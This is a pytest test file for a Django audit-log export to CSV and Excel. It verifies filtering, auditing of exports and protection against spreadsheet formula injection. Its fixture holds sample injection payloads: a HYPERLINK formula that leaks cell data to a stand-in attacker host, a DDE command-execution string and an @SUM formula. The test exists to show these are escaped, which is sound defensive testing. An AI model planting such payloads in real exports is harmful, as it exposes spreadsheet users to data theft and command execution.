"""The audit trail's export: the (filtered) events as CSV or Excel, one row per event, every
cell safe to open in a spreadsheet, and the export itself audited with the filters used.
Run on SQLite and, with DATABASE_URL=postgres://…, on PostgreSQL."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dataio.exporters import AUDIT_HEADERS
from dataio.safety import is_formula_like
from ics_portal.audit import AuditVerb
from ics_portal.models import AuditEvent

from .. import factories
from ..dates import date_fields
from .support import signed_in_earlier

URL = reverse("dataio:audit_export")
T0 = timezone.make_aware(datetime.datetime(2026, 11, 20, 10, 2))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def trail(db):
    for minute in range(3):  # folded on the page; three rows in the export
        factories.AuditEventFactory(
            created_at=T0 + datetime.timedelta(minutes=minute),
            actor_name="Lee Lead",
            session_ref="a" * 16,
            after={"changed": ["key_risks"]},
        )
    factories.AuditEventFactory(
        created_at=T0 + datetime.timedelta(hours=1),
        actor_name=FORMULA,
        verb=AuditVerb.ACCESS_CHANGE,
        object_type="ics_portal.User",
        object_id="5",
        object_label="+cmd|' /C calc'!A0",
        before={"is_staff": False},
        after={"is_staff": True},
        comment="@SUM(1+1)",
        ip_address="203.0.113.7",
    )


def _client(user) -> Client:
    return signed_in_earlier(user, REMOTE_ADDR="198.51.100.4")


def _rows(response, fmt):
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_has_every_event_unfolded_and_no_cell_is_a_formula(trail, governance, fmt):
    response = _client(governance).get(URL, {"format": fmt})
    assert response.status_code == 200
    assert f'.{fmt}"' in response["Content-Disposition"]
    header, *rows = _rows(response, fmt)
    assert header == AUDIT_HEADERS
    assert len(rows) == 4
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert cells and not [c for c in cells if is_formula_like(c)]
    newest = dict(zip(header, rows[0], strict=True))
    assert newest["Person"] == "'" + FORMULA
    assert newest["Action"] == "Changed who can see or do what"
    assert newest["Action code"] == "access.change"
    assert newest["Kind of object"] == "User"
    assert newest["Before"] == '{"is_staff": false}'
    assert newest["Client address"] == "203.0.113.7"


def test_the_export_follows_the_page_filters_and_is_audited_with_them(trail, governance):
    response = _client(governance).get(
        URL,
        {"format": "csv", "person": "lee", **date_fields("date_from", "2026-11-20"), "page": "3"},
    )
    header, *rows = _rows(response, "csv")
    assert len(rows) == 3
    assert {dict(zip(header, r, strict=True))["Person"] for r in rows} == {"Lee Lead"}
    event = AuditEvent.objects.get(verb=AuditVerb.AUDIT_EXPORT)
    assert event.actor_id == governance.pk
    assert event.after == {
        "format": "csv",
        "filters": {"person": "lee", "date_from": "2026-11-20"},
        "rows": 3,
    }
    assert event.ip_address == "198.51.100.4"
    assert event.session_ref


def test_the_page_links_to_the_export_with_its_filters(trail, governance):
    html = _client(governance).get(reverse("audit_log"), {"person": "lee"}).content.decode()
    assert f"{URL}?person=lee&amp;format=csv" in html
    assert f"{URL}?person=lee&amp;format=xlsx" in html


@pytest.mark.parametrize("query", [{"format": "pdf"}, {"format": "csv", "date_from": "not a date"}])
def test_a_bad_export_request_goes_back_to_the_page_and_writes_nothing(trail, governance, query):
    response = _client(governance).get(URL, query)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("audit_log"))
    assert "format" not in response["Location"]
    assert not AuditEvent.objects.filter(verb=AuditVerb.AUDIT_EXPORT).exists()


def test_a_refused_export_writes_nothing(trail, lead):
    assert _client(lead).get(URL, {"format": "csv"}).status_code == 404
    assert not AuditEvent.objects.filter(verb=AuditVerb.AUDIT_EXPORT).exists()
